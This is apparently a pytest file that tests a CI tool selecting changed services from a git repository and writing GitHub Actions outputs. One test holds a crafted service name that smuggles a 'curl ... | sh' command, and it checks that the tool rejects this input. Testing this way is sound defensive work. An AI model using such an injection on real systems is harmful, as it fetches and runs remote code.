"""``pipeline changes`` end to end on a real git repository: outputs for the push pipeline."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline.changes import ZERO_SHA
from tests.unit.support.gitrepo import commit, run, shop


def _outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines())


def test_writes_the_changed_services_as_github_outputs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    repo, base = shop(tmp_path / "shop")
    head = commit(repo, {"services/orders/app.py": "print('v2')\n"}, "orders v2")
    outputs = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    assert run(tmp_path / "shop", "changes", "--base", base, "--head", head, "--github-output") == 0
    assert json.loads(capsys.readouterr().out)["services"] == ["orders"]
    assert _outputs(outputs) == {"services": '["orders"]', "any": "true"}


def test_a_change_to_pipeline_yaml_selects_every_service_through_shared_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo, base = shop(tmp_path / "shop")
    text = (tmp_path / "shop" / "pipeline.yaml").read_text() + "# touched\n"
    head = commit(repo, {"pipeline.yaml": text}, "config")
    assert run(tmp_path / "shop", "changes", "--base", base, "--head", head) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["services"] == ["catalog", "orders"]
    assert data["reason"] == "pipeline.yaml matches shared_paths"


def test_nothing_changed_writes_any_false(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo, base = shop(tmp_path / "shop")
    head = commit(repo, {"docs/notes.md": "x\n"}, "docs")
    outputs = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    assert run(tmp_path / "shop", "changes", "--base", base, "--head", head, "--github-output") == 0
    assert _outputs(outputs) == {"services": "[]", "any": "false"}


def test_a_zero_base_selects_every_service(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shop(tmp_path / "shop")
    assert run(tmp_path / "shop", "changes", "--base", ZERO_SHA) == 0
    assert json.loads(capsys.readouterr().out)["services"] == ["catalog", "orders"]


def test_select_outputs_exactly_the_named_services_without_a_base(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop(tmp_path / "shop")
    outputs = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    assert run(tmp_path / "shop", "changes", "--select", "orders", "--github-output") == 0
    assert _outputs(outputs) == {"services": '["orders"]', "any": "true"}


def test_select_refuses_a_crafted_name_with_exit_2_and_writes_no_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shop(tmp_path / "shop")
    outputs = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    crafted = 'x"; curl https://example.invalid | sh #'
    assert run(tmp_path / "shop", "changes", "--select", crafted, "--github-output") == 2
    assert not outputs.exists()
    assert capsys.readouterr().out == ""


def test_without_base_or_select_it_is_a_usage_error(tmp_path: Path) -> None:
    shop(tmp_path / "shop")
    assert run(tmp_path / "shop", "changes") == 2
